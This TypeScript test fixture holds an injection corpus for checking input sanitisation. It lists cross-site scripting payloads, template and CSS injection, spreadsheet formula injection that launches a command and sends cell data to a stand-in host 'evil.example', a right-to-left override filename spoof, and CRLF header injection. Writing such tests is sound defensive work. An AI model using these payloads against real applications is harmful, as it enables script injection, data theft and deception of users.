/**
 * The injection corpus: each payload sets `window.__pwned` (or opens a dialog) if it ever runs.
 * `name: false` marks payloads a name field refuses by design (control characters, > 120 chars):
 * those go through the free-text fields instead.
 */
export type Payload = { id: string; text: string; name: boolean };

const P = (id: string, text: string, name = true): Payload => ({
  id,
  text,
  name: name && text.length <= 120 && !/[\u0000-\u001f\u007f]/.test(text),
});

export const PAYLOADS: Payload[] = [
  P('script', '<script>window.__pwned="script"</script>'),
  P('img-onerror', '<img src=x onerror="window.__pwned=\'img\'">'),
  P('svg-onload', '<svg onload="window.__pwned=\'svg\'"></svg>'),
  P('svg-script', '<svg><script>window.__pwned="svgscript"</script></svg>'),
  P('js-url', 'javascript:window.__pwned="jsurl"'),
  P('attr-break', '"><script>window.__pwned="attr"</script>'),
  P('single-quote-break', "'><img src=x onerror=window.__pwned='sq'>"),
  P('iframe-js', '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>'),
  P('anchor-js', '<a href="javascript:window.__pwned=\'a\'">click me</a>'),
  P('style-url', '<style>body{background:url("javascript:window.__pwned=1")}</style>'),
  P('inline-style', '<div style="background-image:url(javascript:alert(1))">css</div>'),
  P('title-break', '</title><script>window.__pwned="title"</script>'),
  P('body-onload', '<body onload=window.__pwned="body">'),
  P('mxss', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned="mxss">'),
  P('template', '{{constructor.constructor(\'window.__pwned="tpl"\')()}}'),
  P('js-template', '${window.__pwned="tl"}'),
  P('formula-cmd', "=cmd|' /C calc'!A0"),
  P('formula-plus', "+SUM(1+1)*cmd|' /C calc'!A0"),
  P('formula-at', '@SUM(1+1)'),
  P('formula-minus', "-2+3+cmd|' /C calc'!A0"),
  P('formula-hyperlink', '=HYPERLINK("https://evil.example/?d="&A1,"open")'),
  P('bidi-rlo', 'invoice\u202Egpj.exe'),
  P('bidi-isolates', '\u2067admin\u2069 \u200fmark\u200e'),
  P('null-byte', 'before\u0000after<script>window.__pwned="nul"</script>'),
  P('very-long', `${'A'.repeat(1500)}<script>window.__pwned="long"</script>${'B'.repeat(2400)}`),
  P('meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">'),
  P('object', '<object data="javascript:window.__pwned=\'obj\'"></object>'),
  P('embed', '<embed src="data:text/html,<script>parent.__pwned=1</script>">'),
  P('data-url', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  P('details-toggle', '<details open ontoggle=window.__pwned="details">'),
  P('cdata', ']]><script>window.__pwned="cdata"</script><![CDATA['),
  P('comment', '<!--<script>window.__pwned="comment"</script>-->'),
  P('entities', '&lt;b&gt;bold&lt;/b&gt; &amp; &quot; &#39; &#x3C;'),
  P('specials', '% & < > " \' ` \\ ; | $ ( ) { }'),
  P('base-href', '<base href="javascript:/a/"><a href="/">x</a>'),
  P('markdown-link', '[click](javascript:window.__pwned="md") ![x](x" onerror="window.__pwned=1)'),
  P('js-break', "';window.__pwned='jsq';//"),
  P('css-break', '</style><style>*{display:none!important}</style>'),
  P('zalgo-emoji', 'Z\u0338\u0321a\u035Cl\u035Fgo 🎉 👩🏽‍💻'),
  P('crlf', 'line1\r\nline2\ninjected: header'),
];
